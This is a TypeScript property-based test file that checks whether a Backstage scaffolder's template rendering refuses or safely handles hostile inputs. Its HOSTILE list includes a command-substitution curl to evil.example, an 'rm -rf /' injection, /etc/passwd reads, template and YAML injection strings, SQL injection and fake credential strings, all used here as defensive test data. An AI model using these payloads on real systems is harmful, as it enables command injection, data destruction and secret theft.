import { ConfigReader } from '@backstage/config';
import { ScmIntegrations } from '@backstage/integration';
import { createMockActionContext } from '@backstage/plugin-scaffolder-node-test-utils';
import fc from 'fast-check';
import fs from 'fs-extra';
import os from 'node:os';
import path from 'node:path';
import { parseAllDocuments } from 'yaml';
import { createRenderAction } from '../actions/render/createRenderAction';
import { readForjaScaffolderConfig } from '../config';
import { FORJA_ROOT, REPOSITORY_MODULES } from '../cli/forjaRoot';
import { formatFinding } from '../validate/types';
import { validateWorkspace } from '../validate/validateWorkspace';
import { listFiles } from './files';

const RUNS = Number(process.env.FORJA_PROPERTY_RUNS ?? 2000);
const config = readForjaScaffolderConfig(new ConfigReader({}));
const action = createRenderAction({
  reader: {} as never,
  integrations: ScmIntegrations.fromConfig(new ConfigReader({})),
  config,
});

/** Payloads aimed at YAML, HCL, shell, workflow expressions, templating and paths. */
const HOSTILE = [
  '../x',
  '/etc/passwd',
  '${{ github.event.issue.title }}',
  '$(curl https://evil.example)',
  '`id`',
  '{{ "".constructor.constructor("return process")() }}',
  'a\nkind: ClusterRoleBinding',
  'x\n---\napiVersion: v1\nkind: Secret',
  '${file("/etc/passwd")}',
  '%{if true}x%{endif}',
  'AKIAIOSFODNN7EXAMPLE',
  '-----BEGIN RSA PRIVATE KEY-----\nMIIB',
  'ghp_abcdefghijklmnopqrstuvwxyz0123456789',
  '"; rm -rf / #',
  "' OR 1=1 --",
  '&a [*a, *a, *a]',
  'x'.repeat(300),
  '',
  'Ünïcödé',
  'name: {{ parameters.name }}',
];
const hostile = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ maxLength: 80 }),
  fc.integer(),
  fc.constant(null),
  fc.array(fc.string(), { maxLength: 3 }),
);
/** Mostly valid, sometimes hostile: most generated inputs are refused, some accepted. */
const field = <T>(valid: fc.Arbitrary<T>) =>
  fc.oneof(
    { weight: 4, arbitrary: valid as fc.Arbitrary<unknown> },
    { weight: 1, arbitrary: hostile },
  );

const label = (max: number) =>
  fc
    .tuple(
      fc.stringMatching(/^[a-z]$/),
      fc.stringMatching(new RegExp(`^[a-z0-9-]{0,${max - 2}}$`)),
      fc.stringMatching(/^[a-z0-9]$/),
    )
    .map(([a, b, c]) => `${a}${b}${c}`);
const text = fc.oneof(
  fc.constantFrom(
    ...HOSTILE.filter(h => h.length <= 300 && !/AKIA|BEGIN|ghp_/.test(h)),
  ),
  fc.string({ maxLength: 120 }),
);
const subset = <T>(items: T[]) => fc.subarray(items, { minLength: 1 });

const serviceValues = fc.record({
  name: field(label(40)),
  description: text,
  owner: field(
    fc.constantFrom(
      'group:default/team-video',
      'user:default/ana.souza',
      'team-orders',
    ),
  ),
  system: field(label(20)),
  language: field(fc.constantFrom('go', 'node', 'python')),
  port: field(fc.integer({ min: 1024, max: 65535 })),
  dependencies: field(fc.subarray(['postgres', 'redis', 'rabbitmq'])),
  environments: field(subset(['dev', 'qa', 'staging', 'prod'])),
  cloud: fc.constant('aws'),
  region: field(fc.constantFrom('us-east-1', 'sa-east-1')),
  registry: field(fc.constant('123456789012.dkr.ecr.us-east-1.amazonaws.com')),
  ciIdentity: fc.record({
    awsRoleArn: field(fc.constant('arn:aws:iam::123456789012:role/ci')),
  }),
  argocd: fc.record({ project: field(label(20)) }),
  deployStrategy: field(fc.constantFrom('rolling', 'blue-green')),
  baseDomain: field(fc.constantFrom('example.com', 'apps.acme.io')),
  repoUrl: field(
    label(30).map(repo => `github.com?owner=forja-demo&repo=${repo}`),
  ),
});

const environmentValues = fc.record({
  name: field(label(16)),
  owner: field(fc.constantFrom('group:default/platform')),
  cloud: fc.constant('azure'),
  region: field(fc.constantFrom('brazilsouth', 'eastus')),
  azureSubscriptionId: field(fc.uuid({ version: 4 })),
  environments: field(subset(['dev', 'qa', 'staging', 'prod'])),
  cluster: fc.record({
    type: field(fc.constant('aks')),
    nodeSize: field(fc.constantFrom('Standard_D4s_v5', 'Standard_D2s_v5')),
    nodeCount: field(fc.constant({ min: 1, desired: 2, max: 3 })),
  }),
  networkCidr: field(fc.constantFrom('10.20.0.0/16', '10.30.0.0/20')),
  postgres: field(
    fc.record({
      size: fc.constant('GP_Standard_D2ds_v5'),
      databaseName: fc.constantFrom('app', 'orders'),
    }),
  ),
  redis: field(
    fc.record({
      size: fc.constant('Standard_C1'),
      replicas: fc.integer({ min: 0, max: 2 }),
    }),
  ),
  broker: field(
    fc.record({
      kind: fc.constantFrom('service-bus', 'rabbitmq-in-cluster'),
      queues: fc.array(label(10), { maxLength: 2 }),
    }),
  ),
  registryRepositories: field(fc.array(label(20), { maxLength: 2 })),
  repoUrl: field(
    label(30).map(repo => `github.com?owner=forja-demo&repo=${repo}`),
  ),
});

const addResourceValues = fc.record({
  repoUrl: field(
    fc.constant('github.com?owner=forja-demo&repo=orders-backend'),
  ),
  kind: field(fc.constantFrom('postgres', 'redis', 'queue')),
  name: field(label(30)),
  platform: field(label(16)),
  cloud: fc.constant('aws'),
  region: field(fc.constantFrom('us-east-1', 'sa-east-1')),
  environments: field(
    fc.constantFrom(['staging'], ['prod'], ['staging', 'prod']),
  ),
  postgres: field(
    fc.record({
      size: fc.constant('db.t4g.medium'),
      databaseName: fc.constantFrom('orders', 'app'),
    }),
  ),
  redis: field(
    fc.record({
      size: fc.constant('cache.t4g.small'),
      replicas: fc.integer({ min: 0, max: 2 }),
    }),
  ),
  queue: field(
    fc.record({ queues: fc.array(label(10), { minLength: 1, maxLength: 2 }) }),
  ),
});

/** add-resource changes an existing service repository: the orders backend seed. */
type Checked = 'service' | 'environment' | 'add-resource';
const EXISTING: Partial<Record<Checked, string>> = {
  'add-resource': path.join(
    FORJA_ROOT,
    'examples/systems/orders/services/orders-backend',
  ),
};

async function snapshot(root: string): Promise<Record<string, string>> {
  const files = await listFiles(root);
  return Object.fromEntries(
    await Promise.all(
      files.map(async f => [f, await fs.readFile(path.join(root, f), 'utf8')]),
    ),
  );
}

function keysOf(value: unknown, into: Set<string>): Set<string> {
  if (Array.isArray(value)) value.forEach(v => keysOf(v, into));
  else if (value && typeof value === 'object') {
    for (const [key, v] of Object.entries(value)) {
      into.add(key);
      keysOf(v, into);
    }
  }
  return into;
}

const ALLOWED_KINDS = new Set([
  'Component',
  'Resource',
  'ServiceAccount',
  'ConfigMap',
  'Deployment',
  'Service',
  'HorizontalPodAutoscaler',
  'PodDisruptionBudget',
  'Ingress',
  'ServiceMonitor',
  'PrometheusRule',
  'Kustomization',
  'AppProject',
  'Application',
  'ClusterSecretStore',
  'ExternalSecret',
]);

async function checkTemplate(
  template: Checked,
  values: fc.Arbitrary<Record<string, unknown>>,
) {
  const stats = { accepted: 0, rejected: 0 };
  await fc.assert(
    fc.asyncProperty(values, async input => {
      const workspacePath = await fs.mkdtemp(
        path.join(os.tmpdir(), `forja-prop-${template}-`),
      );
      const existing = EXISTING[template];
      if (existing) await fs.copy(existing, workspacePath);
      const before = await snapshot(workspacePath);
      const ctx = createMockActionContext({
        input: { template, values: input } as never,
        workspacePath,
        templateInfo: {
          baseUrl: `file://${FORJA_ROOT}/templates/${template}/template.yaml`,
          entityRef: 'template:default/x',
        },
      });
      try {
        await action.handler(ctx);
      } catch (error: any) {
        stats.rejected++;
        // Rejected: a message per field, and nothing in the workspace.
        expect(error.name).toBe('InputError');
        expect(error.errors.length).toBeGreaterThan(0);
        for (const e of error.errors)
          expect(e.message).toEqual(expect.any(String));
        expect(await snapshot(workspacePath)).toEqual(before);
        await fs.remove(workspacePath);
        return;
      }
      stats.accepted++;
      const report = await validateWorkspace(workspacePath, {
        moduleRepositories: REPOSITORY_MODULES,
      });
      expect(report.findings.map(formatFinding)).toEqual([]);
      // User text is data: no parsed key and no document kind comes from it.
      const userStrings = Object.values(input).filter(
        (v): v is string =>
          typeof v === 'string' && /[^a-z0-9-]/.test(v) && v.length > 3,
      );
      for (const file of await listFiles(workspacePath)) {
        const content = await fs.readFile(
          path.join(workspacePath, file),
          'utf8',
        );
        if (!/\.(ya?ml|json)$/.test(file) || file.startsWith('.github/'))
          continue;
        const docs = file.endsWith('.json')
          ? [JSON.parse(content)]
          : parseAllDocuments(content).map(d => (d as any).toJS());
        const keys = keysOf(docs, new Set());
        for (const s of userStrings) expect(keys.has(s)).toBe(false);
        for (const doc of docs) {
          if (doc && typeof doc === 'object' && 'kind' in doc)
            expect(ALLOWED_KINDS.has(doc.kind)).toBe(true);
        }
      }
      if (typeof input.description === 'string' && template === 'service') {
        const catalog = parseAllDocuments(
          await fs.readFile(
            path.join(workspacePath, 'catalog-info.yaml'),
            'utf8',
          ),
        );
        expect(catalog).toHaveLength(1);
        expect((catalog[0] as any).toJS().metadata.description ?? '').toBe(
          input.description,
        );
      }
      await fs.remove(workspacePath);
    }),
    { numRuns: RUNS, seed: 4242, endOnFailure: true },
  );
  return stats;
}

describe('template inputs, property-based', () => {
  it.each([
    ['service', serviceValues],
    ['environment', environmentValues],
    ['add-resource', addResourceValues],
  ] as const)(
    `%s: ${RUNS} generated and hostile inputs are refused field by field or render valid output`,
    async (template, values) => {
      const stats = await checkTemplate(
        template,
        values as fc.Arbitrary<Record<string, unknown>>,
      );
      expect(stats.accepted + stats.rejected).toBe(RUNS);
      expect(stats.accepted).toBeGreaterThan(RUNS / 50);
      expect(stats.rejected).toBeGreaterThan(RUNS / 2);
    },
    900_000,
  );
});
